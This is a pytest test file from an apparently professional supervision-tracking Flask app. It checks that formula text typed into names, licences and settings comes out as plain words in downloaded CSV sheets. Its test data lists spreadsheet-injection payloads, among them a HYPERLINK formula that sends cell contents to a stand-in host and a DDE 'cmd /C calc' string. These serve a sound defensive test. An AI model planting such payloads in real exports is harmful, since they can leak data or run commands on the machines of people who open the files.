"""What is typed as a formula into one's own pages leaves every downloaded sheet as words."""

import csv
import io
from datetime import datetime, time, timedelta
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from supervise.accounts.models import Licence, Person, Setting
from supervise.core.actor import Actor, Role
from supervise.core.clock import local_day, now
from supervise.core.db import db
from supervise.core.installation import installation
from supervise.core.uow import unit_of_work
from supervise.flows.attest_days import attest_days, weeks_to_sign
from supervise.reports.seal import make_seal_identity
from tests.factories import Factory
from tests.world import DRAWING

RUNS = tuple("=+-@\t\r\n＝＋－＠")
FORMULAS = [
    "=HYPERLINK(\"http://x.example/\"&A1,\"press\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1",
    "\u200b=1+1", "\ufeff@A1",
]  # fmt: skip


def type_into(client: FlaskClient, path: str, **fields: str) -> None:
    answer = client.post(path, data=fields)
    assert answer.status_code == 303, answer.text


def rename(client: FlaskClient, actor: Actor, formula: str) -> None:
    """Change the display name and the licence on the pages for that.

    Credential, title and profession are put in place before: some formulas are refused there, as what identifies.
    """
    with unit_of_work(actor) as work:
        work.session.get_one(Person, actor.person_id).credential = formula[:60]
        held = work.session.scalars(select(Licence).where(Licence.person_id == actor.person_id)).one()
        held.title = held.profession = formula
    person = db.session().get_one(Person, actor.person_id)
    type_into(
        client, "/account", name=f"{formula} A", credential=formula[:60], zone=actor.zone, version=str(person.version)
    )
    licence = db.session.scalars(select(Licence).where(Licence.person_id == actor.person_id)).one()
    type_into(
        client, f"/account/licences/{licence.id}", jurisdiction="US-CA", title=formula, profession=formula,
        number=formula, issued_on="2015-01-01", expires_on="", version=str(licence.version),
    )  # fmt: skip


def cells(client: FlaskClient, path: str) -> list[str]:
    answer = client.get(path)
    assert answer.status_code == 200, answer.text
    assert answer.mimetype == "text/csv"
    return [cell for row in csv.reader(io.StringIO(answer.text.lstrip("\ufeff"), newline="")) for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_typed_formulas_are_words_in_every_sheet(app: Flask, make: Factory, formula: str) -> None:
    org = make.organisation()
    identity = make_seal_identity(org.name)
    installation().keyring.put_item("seal-key", identity.key_pem)
    installation().keyring.put_item("seal-certificate", identity.certificate_pem)
    author, supervisor = make.person(org, Role.SUPERVISEE), make.person(org, Role.SUPERVISOR)
    for actor in (author, supervisor):
        make.licence(actor)
        rename(make.client(actor), actor, formula)
    client = make.client(author)
    type_into(
        client, "/account/settings/new", name=f"{formula} place", board="ca-amft", pay="w2", degree="post",
        starts_on="2025-01-01", ends_on="",
    )  # fmt: skip
    place = db.session.scalars(select(Setting).where(Setting.person_id == author.person_id)).one()
    make.agreement(author, supervisor, place)
    day = local_day(now(), author.zone) - timedelta(days=8)
    starts = datetime.combine(day, time(9), ZoneInfo(author.zone))
    make.meeting(supervisor, {author: place}, starts)  # without supervision in the week none of its hours counts
    make.day(author, place, day, submit=True, individual=120)
    seen = {week.key: week.rows_hash for week in weeks_to_sign(supervisor, author.person_id).weeks}
    attest_days(supervisor, author.person_id, make.password(supervisor), DRAWING, seen)
    choice = client.get("/reports").text.partition('name="packet" value="')[2].partition('"')[0]
    answer = client.post("/reports", data={"packet": choice})
    assert answer.status_code == 303, answer.text
    for path in ("/workbook.csv", f"{answer.headers['Location']}.csv"):
        found = cells(client, path)
        assert any(formula in cell for cell in found), f"{path} shows nothing that was typed"
        assert not [cell for cell in found if cell.lstrip(" \u200b\ufeff").startswith(RUNS)], path
